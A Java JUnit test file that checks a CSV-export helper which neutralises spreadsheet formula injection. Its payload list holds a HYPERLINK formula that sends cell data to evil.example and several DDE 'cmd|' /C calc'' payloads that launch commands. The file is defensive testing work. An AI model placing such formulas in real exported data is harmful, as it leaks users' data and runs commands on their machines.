package org.rapport.rest;

import static org.junit.Assert.assertEquals;

import java.io.IOException;
import java.util.Arrays;
import java.util.List;

import org.junit.Test;

public class CsvCellsTest {

    /** Payloads from OWASP's CSV injection page and the usual variants. */
    private static final List<String> FORMULAS = List.of("=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")",
            "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+9)*cmd|' /C calc'!A0", "=1+2", "\t=1+2", "\r=1+2",
            "-1e5", "+1+2", "=", "@");

    @Test
    public void everyCellASpreadsheetWouldRunGetsALeadingQuote() {
        for (String formula : FORMULAS) {
            assertEquals(formula, "'" + formula, CsvCells.neutralise(formula));
        }
    }

    @Test
    public void plainValuesAndNumbersAreLeftAsTheyAre() {
        for (String plain : List.of("Ada", "ada@example.com", "Lovelace, Countess", "+442079460001", "-12.5", "42", "",
                "a=b", " =1+2", "'quoted")) {
            assertEquals(plain, plain, CsvCells.neutralise(plain));
        }
    }

    @Test
    public void restoreUndoesNeutraliseAndNothingElse() {
        for (String formula : FORMULAS) {
            assertEquals(formula, CsvCells.restore(CsvCells.neutralise(formula)));
        }
        assertEquals("'quoted", CsvCells.restore("'quoted"));
        assertEquals("'", CsvCells.restore("'"));
        assertEquals(null, CsvCells.restore(null));
    }

    @Test
    public void everyCellIsQuotedWithQuotesDoubled() throws IOException {
        StringBuilder out = new StringBuilder();
        CsvCells.writeRecord(out, Arrays.asList(7, "=HYPERLINK(\"x\")", null, "say \"hi\"", "a,b\nc"));

        assertEquals("\"7\",\"'=HYPERLINK(\"\"x\"\")\",,\"say \"\"hi\"\"\",\"a,b\nc\"\r\n", out.toString());
    }
}
